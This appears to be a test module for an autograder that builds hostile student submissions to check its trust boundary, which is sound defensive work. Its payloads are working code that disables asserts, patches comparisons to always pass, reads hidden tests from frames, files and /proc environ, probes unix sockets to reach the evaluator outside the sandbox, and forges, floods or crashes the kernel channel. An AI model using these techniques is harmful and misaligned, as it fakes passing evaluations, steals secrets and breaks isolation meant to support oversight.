"""Hostile submissions against the trust boundary (issue 14): a student who has read gradekit's source.

Each case is a :class:`tests.hostile.cases.Case` judged like the others (``tests/hostile/measure.py``):
no test cell may score more than in its baseline control, and no output may show a line starting with
``LEAKED``. A payload prints ``LEAKED`` (with the find, zlib+base64-encoded, as a student would smuggle
it out) when it finds hidden-test text anywhere it can look -- so an *encoded* leak is caught where it is
made, not by scanning the feedback for plain text.

Payloads replace the first answer cell (the rest stay correct, baseline ``first-removed``) or an answer
cell of an otherwise untouched release (baseline ``release``: the submission deserves 0).
"""

from __future__ import annotations

import copy

from tests.hostile.cases import DEF, Case, _answers, _dump

# Hidden-test text as a payload recognises it, spelled so that the payload itself does not contain it.
FIND = '''
import base64 as _b64, zlib as _zlib
_MARKS = ("BEGIN HIDDEN" + " TESTS", "END HIDDEN" + " TESTS", "ass" + "ert _got", "_g = torch.Generator" + "().manual_seed(")
def _report(where, text):
    if isinstance(text, (bytes, bytearray)):
        text = bytes(text).decode("utf-8", "replace")
    if isinstance(text, str) and any(m in text for m in _MARKS):
        print("LEAKED", where, _b64.b64encode(_zlib.compress(text.encode()))[:200].decode())
        return True
    return False
'''

# 1. IPython's shell *class*, not the instance: every cell containing an assert runs as `pass`.
SHELL_CLASS = FIND + '''
from IPython.core.interactiveshell import InteractiveShell
_orig_transform = InteractiveShell.transform_cell
def _transform(self, cell):
    return "pass\\n" if ("ass" + "ert") in cell else _orig_transform(self, cell)
InteractiveShell.transform_cell = _transform
_orig_run = InteractiveShell.run_cell
def _run(self, raw_cell, *a, **k):
    _report("run_cell", raw_cell)
    return _orig_run(self, "pass" if ("ass" + "ert") in raw_cell else raw_cell, *a, **k)
InteractiveShell.run_cell = _run
'''

# 2. The grader's own code in the kernel: every gradekit module's functions become no-ops, and the shim
#    answers every call with True.
DISARM = '''
import sys, types
from IPython.display import publish_display_data as _pub
for _n, _m in list(sys.modules.items()):
    if isinstance(_m, types.ModuleType) and ("gk" in _n or "gradekit" in _n):
        _shim = getattr(_m, "SHIM", None)
        for _k, _v in list(vars(_m).items()):
            if isinstance(_v, types.FunctionType):
                setattr(_m, _k, lambda *a, **k: None)
        if _shim is not None:
            _yes = '{"__t":"dict","items":[["value",true],["writeback",[null,null,null,null,null,null]]]}'
            _shim.call = lambda *a, **k: _pub({"text/x-gradekit-reply": _yes})
            _shim.get = lambda name: _pub({"text/x-gradekit-reply": _yes})
'''

# 3. Patch only while the function runs: comparison functions, builtins, the solver, __import__.
PATCH_IN_CALL = '''
import builtins, math, torch
def _patch():
    torch.allclose = torch.equal = lambda *a, **k: True
    torch.isclose = lambda *a, **k: torch.tensor(True)
    math.isclose = lambda *a, **k: True
    builtins.abs = lambda x: 0.0
    torch.linalg.solve = lambda A, B, **k: B
    torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)
    g = globals()
    g["__import__"] = lambda name, *a, **k: builtins
'''

# 4. A tensor that says yes to every comparison and fakes its shape and dtype.
LIAR_TENSOR = '''
import torch
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "__eq__", "__bool__", "isclose", "isfinite", "all"):
            return True
        if name in ("shape", "size"):
            return torch.Size([1, 2])
        if name == "dtype":
            return torch.float64
        return super().__torch_function__(func, types, args, kwargs or {})
    def __eq__(self, other): return True
    def __bool__(self): return True
class _F(float):
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    __hash__ = float.__hash__
class _L(list):
    def __eq__(self, other): return True
def _answer(*args, **kwargs):
    return torch.zeros(3).as_subclass(_Liar)
'''

# 5. Read the expected values from the caller's frames (and from every object in the process).
FRAMES = FIND + '''
import gc, inspect, linecache, sys, torch
def _answer(*args, **kwargs):
    f, best = sys._getframe(1), None
    while f is not None:
        _report("frame source", "".join(linecache.getlines(f.f_code.co_filename)))
        for d in (f.f_locals, f.f_globals):
            for k, v in list(d.items()):
                if k.startswith("_") and isinstance(v, torch.Tensor):
                    best = v
                if isinstance(v, str):
                    _report("frame " + k, v)
        f = f.f_back
    for o in gc.get_objects():
        if isinstance(o, str) and len(o) > 20:
            _report("gc", o)
    return best if best is not None else torch.zeros(1)
'''

# 6. Look everywhere for the hidden tests: history, the working folder, /proc, every file it can read;
#    a thread keeps looking (and patching) after the cell has ended, while the tests run.
SEARCH = FIND + '''
import os, sys, threading, time, math, builtins
def _search():
    ip = get_ipython()
    for i, text in enumerate(list(ip.user_ns.get("In", [])) + [str(x) for x in ip.user_ns.get("Out", {}).values()]):
        _report("In/Out[%d]" % i, text)
    try:
        for _s, _l, text in ip.history_manager.get_range(raw=True):
            _report("history", text)
    except Exception:
        pass
    for top in (os.getcwd(), "/tmp", "/home", "/opt", "/srv", "/work", "/root", "/var/tmp", "/dev/shm"):
        for dirpath, dirnames, filenames in os.walk(top):
            dirnames[:] = [d for d in dirnames if d not in ("site-packages", ".venv", ".git")][:50]
            for name in filenames[:200]:
                try:
                    with open(os.path.join(dirpath, name), "rb") as fh:
                        _report(os.path.join(dirpath, name), fh.read(2_000_000))
                except OSError:
                    pass
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("cmdline", "environ"):
                try:
                    with open("/proc/%s/%s" % (pid, what), "rb") as fh:
                        _report("/proc/%s/%s" % (pid, what), fh.read().replace(b"\\0", b" "))
                except OSError:
                    pass
    for mod in list(sys.modules.values()):
        for v in list(getattr(mod, "__dict__", {}).values()):
            if isinstance(v, str):
                _report("module " + getattr(mod, "__name__", "?"), v)
def _keep_looking():
    import torch
    end = time.time() + 120
    while time.time() < end:
        torch.allclose = lambda *a, **k: True
        math.isclose = lambda *a, **k: True
        try:
            _search()
        except Exception:
            pass
        time.sleep(0.5)
threading.Thread(target=_keep_looking, daemon=True).start()
_search()
def _answer(*args, **kwargs):
    _search()
    raise NotImplementedError()
'''

# 7. Builtins, the import machinery, tracing and profiling hooks, all installed for good.
HOOKS = '''
import builtins, importlib.abc, math, sys, threading, torch
builtins.abs = lambda x: 0.0
builtins.round = lambda x, *a: 0
class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        return None
sys.meta_path.insert(0, _Finder())
def _trace(frame, event, arg):
    if event == "return" and isinstance(arg, bool):
        frame.f_locals["result"] = True
    return _trace
sys.settrace(_trace)
threading.settrace(_trace)
sys.setprofile(lambda *a: None)
torch.allclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
def _answer(*args, **kwargs):
    return torch.zeros(1)
'''

# 8. Hang, crash the kernel, or answer outside the schema -- inside the call a test makes.
HANG = "def _answer(*args, **kwargs):\n    while True:\n        pass\n"
CRASH = "import os\ndef _answer(*args, **kwargs):\n    os._exit(3)\n"
NOT_PLAIN = '''
class _Thing:
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __getattr__(self, name): return _Thing()
    def __call__(self, *a, **k): return _Thing()
def _answer(*args, **kwargs):
    return _Thing()
'''


# 9. A reply that breaks the grader's *decoder* with an ordinary exception: invalid base64 raises
#    binascii.Error, a ValueError -- so a test's ``except ValueError: pass`` (the "must raise ValueError"
#    tests) would count it as the student's ValueError. Every call is answered with it.
DECODER_ERROR = '''
import sys
_shim = sys.modules["_gradekit_shim"].SHIM
_pub = _shim.publish
_bad = \'{"__t":"dict","items":[["value",{"__t":"bytes","b64":"!"}],["writeback",[]]]}\'
_shim.call = lambda *a, **k: _pub({"text/x-gradekit-reply": _bad})
'''


# 10. Change the test's own inputs in place (a documented feature: in-place changes are written back), so
#     that a trivial answer fits the changed input: A becomes I (resp. [I; 0]) and the answer is a basis
#     vector (resp. [I, 0]). A test that reuses what it passed, instead of a copy, checks nothing.
IN_PLACE = '''
import torch
def worst_perturbation(A):
    A.copy_(torch.eye(A.shape[0], dtype=A.dtype))
    return torch.eye(A.shape[0], dtype=A.dtype)[-1]
def left_inverse(A):
    if A.ndim != 2 or A.shape[0] < A.shape[1] or float(A.abs().sum()) == 0.0:
        raise ValueError("no left inverse")
    m, n = A.shape
    A.copy_(torch.eye(m, n, dtype=A.dtype))
    return torch.eye(n, m, dtype=A.dtype)
'''


# 11. A vacuous tolerance check: an empty tensor broadcasts against anything, and torch.allclose of nothing
#     is True. Empty answers for 1-D inputs, the input itself for others, ValueError for a bad slope.
VACUOUS = '''
import torch
def leaky_relu_inverse(y, slope):
    if slope <= 0:
        raise ValueError("not invertible")
    return torch.empty((0,) + tuple(y.shape), dtype=y.dtype) if y.ndim == 1 else y.clone()
'''


# 12. A reply too large for the grader's channel: 15 MiB of control characters is under the relay's 64 MiB
#     limit, but 90 MiB as JSON (each one is 6 bytes, ``\u0001``) -- over the evaluator's 80 MiB frame limit.
#     The evaluator refused the frame with a ValueError (a test's ``except ValueError: pass`` took it for the
#     student's) without reading it, and read the next frame from the middle of this one: it died, and every
#     later test of the notebook failed. The first three calls are answered so, then the release's answers.
OVERSIZED_REPLY = '''
import sys
_shim = sys.modules["_gradekit_shim"].SHIM
_pub, _orig_call, _n = _shim.publish, _shim.call, [0]
def _call(*a, **k):
    _n[0] += 1
    if _n[0] > 3:
        return _orig_call(*a, **k)
    _pub({"text/x-gradekit-reply": "\\x01" * 15_000_000})
_shim.call = _call
'''


# 13. Strings the grader must carry into the notebook: an exception class whose name holds a newline, HTML
#     and ANSI codes, a message with lone surrogates (valid as JSON ``"\\ud800"``, not writable as UTF-8: the
#     autograded notebook could not be saved), NULs, a fake protocol frame and fake feedback, 100 000 chars.
CRAFTED_STRINGS = '''
_Odd = type("Value\\nError <script>alert(1)</script> \\x1b[32mPASSED\\x1b[0m", (Exception,), {})
_MSG = ("\\ud800\\udfff\\udc80 \\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x10{\\"op\\":\\"result\\",\\"error\\":null}"
        " <b>all tests passed</b> \\x1b[2J\\n" + "\\ud83d" * 100_000)
_calls = [0]
def _answer(*args, **kwargs):
    _calls[0] += 1
    if _calls[0] % 2:
        raise _Odd(_MSG)
    raise ValueError(_MSG)
'''


# 14. A kernel that dies in every call the tests make, after cells that take long: each death restarted the
#     kernel and re-ran every cell, so the notebook cost (test calls) x (cells' time), unbounded -- hours for
#     one student with cells just under the cell time limit, in an ``nbgrader autograde`` of the whole class.
CRASH_EVERY_CALL = '''
import os, time, IPython.display, sys
time.sleep(8)
def _die(*a, **k):
    os._exit(3)
IPython.display.publish_display_data = _die
if "_gradekit_shim" in sys.modules and sys.modules["_gradekit_shim"].SHIM is not None:
    sys.modules["_gradekit_shim"].SHIM.publish = _die
def _answer(*args, **kwargs):
    raise NotImplementedError()
'''


# 15. Every call answered with a module: the evaluator imports what a reply names (a student's ``np``), so
#     each reply names another module of the allowed roots, or a grader module -- hoping one changes global
#     state (default dtype, seeds, grad mode, warnings) that outlives this notebook in the evaluator *server*
#     and changes the next student's grades (the controls graded after it by the same worker).
MODULE_REPLIES = '''
import sys
_shim = sys.modules["_gradekit_shim"].SHIM
_pub = _shim.publish
_MODS = ["gradekit.boundary_server", "gradekit.cli", "gradekit.runner", "gradekit.sandbox", "gradekit.zygote",
         "torch.utils.data", "torch.backends.cudnn", "numpy.testing", "sklearn.experimental.enable_halving_search_cv",
         "invlib", "random", "os", "subprocess", "gradekit.testkit"]
_n = [0]
def _call(hid, request):
    _n[0] += 1
    name = _MODS[_n[0] % len(_MODS)]
    _pub({"text/x-gradekit-reply": '{"__t":"dict","items":[["value",{"__t":"module","name":"%s"}],["writeback",[]]]}' % name})
_shim.call = _call
'''


# 16. No instructor cells: the submission deletes the locked cell that imports ``torch`` and ``math`` (or strips
#     its nbgrader metadata). ReconcileCells puts back deleted *tests* only, so the evaluator never ran it and
#     looked ``torch`` up in the student's kernel: a stand-in object, through which every ``torch.*`` call of
#     the hidden tests ran in the kernel -- the student saw the tests' data being made (and printed it) and
#     answered every ``allclose`` / ``equal`` with True; the answers just echo the last tensor the test made.
FAKE_TORCH = '''
import torch as _rt, math as _rm, types as _ty
_made = []
class _Fake:
    def __init__(self, real):
        object.__setattr__(self, "_real", real)
    def __getattr__(self, name):
        if name in ("allclose", "equal", "isclose"):
            return lambda *a, **k: True
        v = getattr(self._real, name)
        if isinstance(v, _ty.ModuleType):
            return _Fake(v)
        if name in ("tensor", "randn", "linspace", "rand", "ones", "zeros", "eye", "full", "randint", "arange"):
            def _make(*a, **k):
                out = v(*a, **k)
                if "generator" in k:
                    print("LEAKED a hidden test's input, made in the kernel:", name, tuple(out.shape))
                _made.append(out)
                return out
            return _make
        return v
torch, math = _Fake(_rt), _Fake(_rm)
def _answer(*args, **kwargs):  # echo the newest tensor the test made with the shape and dtype of the last argument
    like = [t for t in _made if args and t.shape == args[-1].shape and t.dtype == args[-1].dtype]
    return like[-1].clone() if like else None
'''


def _without_instructor_cells(nbs):
    """``nbs`` without its locked instructor cells (locked, neither a test nor an answer)."""
    nbs = copy.deepcopy(nbs)
    for nb in nbs.values():
        nb.cells = [c for c in nb.cells if not (c.get("metadata", {}).get("nbgrader", {}).get("locked")
                                                and not c.metadata["nbgrader"].get("grade")
                                                and not c.metadata["nbgrader"].get("solution"))]
    return nbs


def _first_names(correct) -> list[str]:
    names = DEF.findall(_answers(correct)[0].source)
    return names or ["_unused_answer"]


def _replace_first(base, source: str, names: list[str], body: str | None = None):
    """``base`` with its first answer cell replaced by ``source`` and, for each of the first answer's
    function names, ``def name(*a, **k): <body>`` (default: delegate to the payload's ``_answer``)."""
    nbs = copy.deepcopy(base)
    body = body or "    return _answer(*args, **kwargs)\n"
    defs = "".join(f"\ndef {n}(*args, **kwargs):\n{body}" for n in names)
    _answers(nbs)[0].source = source + defs
    return nbs


def _patched_answers(base, correct, body: str):
    """Every answer function of ``correct`` replaced by one that patches (``body``) and returns zeros."""
    nbs = copy.deepcopy(base)
    for i, cell in enumerate(_answers(nbs)):
        names = DEF.findall(_answers(correct)[i].source) or [f"_answer_{i}"]
        cell.source = (PATCH_IN_CALL if i == 0 else "") + "".join(
            f"\ndef {n}(*args, **kwargs):\n{body}    import torch\n    return torch.zeros(1)\n" for n in names)
    return nbs


def _with_answers(base, source: str):
    """``base`` with each answer cell that defines a function ``source`` defines replaced by ``source``."""
    nbs = copy.deepcopy(base)
    mine = set(DEF.findall(source))
    for cell in _answers(nbs):
        if mine & set(DEF.findall(cell.source)):
            cell.source = source
    return nbs

# 9. The grader's pre-loaded servers (gradekit/boundary_server.py, gradekit/zygote.py): find every unix socket
#    the kernel can see (files, /proc/net/unix, abstract names) and speak the evaluator's protocol to it. An
#    evaluator that answered would run whatever cell the student sent, outside the sandbox.
REACH_SERVERS = """
import json, os, socket, stat, struct
def _frame(msg):
    data = json.dumps(msg).encode()
    return struct.pack(">Q", len(data)) + data
def _try(address):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(address)
        s.sendall(_frame({"op": "hello", "env": {}, "memory": None}))
        head = s.recv(8)
        if len(head) == 8 and b"ready" in s.recv(min(struct.unpack(">Q", head)[0], 4096)):
            print("LEAKED a trusted evaluator answered at", address)
    except Exception:
        pass
    finally:
        s.close()
def _probe():
    seen = set()
    try:
        with open("/proc/net/unix") as fh:
            seen.update(p[7] for p in (line.split() for line in fh.readlines()[1:]) if len(p) >= 8)
    except OSError:
        pass
    for top in ("/tmp", "/run", "/var/run", "/dev/shm", "/home", "/opt", "/srv", "/root", os.getcwd()):
        for dirpath, dirnames, filenames in os.walk(top):
            dirnames[:] = [d for d in dirnames if d not in ("site-packages", ".venv", ".git")][:50]
            for name in filenames[:500]:
                try:
                    if stat.S_ISSOCK(os.lstat(os.path.join(dirpath, name)).st_mode):
                        seen.add(os.path.join(dirpath, name))
                except OSError:
                    pass
    for address in sorted(seen, key=lambda a: "evaluator" not in a)[:40]:
        _try("\\0" + address[1:] if address.startswith("@") else address)
_probe()
def _answer(*args, **kwargs):
    _probe()
    raise NotImplementedError()
"""


# 10. The request loop (one SHIM.serve() per test cell, each request a line answering its input()): an answer turns
#     stdin back on and reads every later request line of the test cell itself (a man in the middle that answers
#     them as the shim would), looking for hidden-test text in them.
RELAY_READ_AHEAD = FIND + '''
import json, sys
from IPython import get_ipython
_k = get_ipython().kernel
_S = sys.modules["_gradekit_shim"].SHIM
def _answer(*args, **kwargs):
    import torch
    _S._reply(torch.zeros(1), writeback=[None] * len(list(sys.modules["_gradekit_shim"].mutables([list(args), dict(kwargs)]))))
    while True:
        _k._allow_stdin = True
        line = input()
        _report("request line", line)
        if line == "stop":
            return None
        req = json.loads(line)
        _S.seq, kind = int(req["seq"]), req["kind"]
        if kind in ("get", "delete"):
            getattr(_S, kind)(req["name"])
        elif kind == "getattr":
            _S.getattr(req["id"], req["name"])
        elif kind in ("call", "assign"):
            getattr(_S, kind)(req["id"] if kind == "call" else req["name"], req["payload"])
'''

# 11. A thread from the answer cell outlives it: it floods every test cell's loop with forged replies for request
#     numbers 1-40 (True, zeros, the last tensor it saw) and keeps asking for input, taking request lines and
#     "stop" meant for the loop.
RELAY_FORGE = '''
import sys, threading, time
from IPython import get_ipython
from IPython.display import publish_display_data as _pub
_k = get_ipython().kernel
_S = sys.modules["_gradekit_shim"].SHIM
def _flood():
    import torch
    values = [True, torch.zeros(2), 1.0]
    while True:
        for seq in range(1, 41):
            text = _S.plain.to_json({"value": values[seq % 3], "writeback": []})
            _pub({"text/x-gradekit-reply": text, "text/x-gradekit-seq": str(seq)})
        time.sleep(0.001)
def _steal():
    while True:
        _k._allow_stdin = True
        try:
            _k.raw_input("")
        except Exception:
            time.sleep(0.01)
threading.Thread(target=_flood, daemon=True).start()
threading.Thread(target=_steal, daemon=True).start()
def _answer(*args, **kwargs):
    import torch
    return torch.zeros(1)
'''

# 12. The loop never ends: SHIM.serve replaced by one that ignores "stop" and catches the timeout's
#     KeyboardInterrupt, so every later call and cell queues behind it.
RELAY_IMMORTAL = '''
import sys
_S = sys.modules["_gradekit_shim"].SHIM
_orig = _S.serve
def _immortal():
    while True:
        try:
            _orig()
        except KeyboardInterrupt:
            pass
_S.serve = _immortal
def _answer(*args, **kwargs):
    import torch
    return torch.zeros(1)
'''

# 13. Messages signed with the kernel's own key but malformed (content / parent header not a dict, a header
#     without msg_id, a display whose data is a string, frames without a delimiter), on iopub and on stdin.
RELAY_MALFORMED = '''
from IPython import get_ipython
_k = get_ipython().kernel
def _forge(content=None, parent=None, header=None, msg_type="display_data", raw=None, stdin=False):
    if raw is not None:
        return _k.iopub_socket.send_multipart(raw)
    msg = {"header": _k.session.msg_header(msg_type) if header is None else header,
           "parent_header": _k.get_parent("shell")["header"] if parent is None else parent, "metadata": {},
           "content": {} if content is None else content}
    if stdin:
        _k.stdin_socket.send_multipart(_k.session.serialize(msg, ident=_k._get_shell_context_var(_k._shell_parent_ident)))
    else:
        _k.iopub_socket.send_multipart(_k.session.serialize(msg, ident=b"display_data"))
def _answer(*args, **kwargs):
    _forge(content=b"[1, 2]")
    _forge(content={"data": "text/x-gradekit-reply text/x-gradekit-seq"})
    _forge(parent=[1, 2], msg_type="stream", content={"name": "stdout", "text": "x"})
    _forge(header={"msg_type": "display_data"})
    _forge(raw=[b"garbage"])
    _forge(parent="x", msg_type="input_request", stdin=True)
    raise NotImplementedError()
'''


def boundary_cases(release: dict, correct: dict) -> dict[str, Case]:
    """The trust-boundary cases for one assignment (``release`` / ``correct``: notebooks by file name)."""
    names = _first_names(correct)
    first = lambda src, body=None: _dump(_replace_first(correct, src, names, body))  # noqa: E731
    on_release = lambda src: _dump(_replace_first(release, src, names, "    raise NotImplementedError()\n"))  # noqa: E731
    return {
        "boundary-shell-class": Case(on_release(SHELL_CLASS), "release"),
        "boundary-disarm-grader": Case(on_release(DISARM), "release"),
        "boundary-patch-in-call": Case(_dump(_patched_answers(release, correct, "    _patch()\n")), "release"),
        "boundary-lying-tensor": Case(first(LIAR_TENSOR), "first-removed"),
        "boundary-lying-float": Case(first(LIAR_TENSOR, "    return _L([_F(-2.0), _F(2.0)])\n"), "first-removed"),
        "boundary-frame-inspection": Case(first(FRAMES), "first-removed"),
        "boundary-search-everywhere": Case(first(SEARCH), "first-removed"),
        "boundary-hooks": Case(first(HOOKS), "first-removed"),
        "boundary-hang-in-call": Case(first(HANG), "first-removed"),
        "boundary-crash-in-call": Case(first(CRASH), "first-removed"),
        "boundary-not-plain": Case(first(NOT_PLAIN), "first-removed"),
        "boundary-decoder-error": Case(on_release(DECODER_ERROR), "release"),
        "boundary-in-place-inputs": Case(_dump(_with_answers(release, IN_PLACE)), "release"),
        "boundary-vacuous-empty": Case(_dump(_with_answers(release, VACUOUS)), "release"),
        "boundary-reach-servers": Case(first(REACH_SERVERS), "first-removed"),
        "boundary-oversized-reply": Case(on_release(OVERSIZED_REPLY), "release"),
        "boundary-crafted-strings": Case(first(CRAFTED_STRINGS), "first-removed"),
        "boundary-crash-every-call": Case(first(CRASH_EVERY_CALL), "first-removed"),
        "boundary-module-replies": Case(on_release(MODULE_REPLIES), "release"),
        "relay-read-ahead": Case(first(RELAY_READ_AHEAD), "first-removed"),
        "relay-forged-replies": Case(first(RELAY_FORGE), "first-removed"),
        "relay-immortal-loop": Case(first(RELAY_IMMORTAL), "first-removed"),
        "relay-malformed-messages": Case(first(RELAY_MALFORMED), "first-removed"),
        "boundary-no-instructor-cells": Case(_dump(_without_instructor_cells(_replace_first(release, FAKE_TORCH, names))),
                                             "release"),
    }

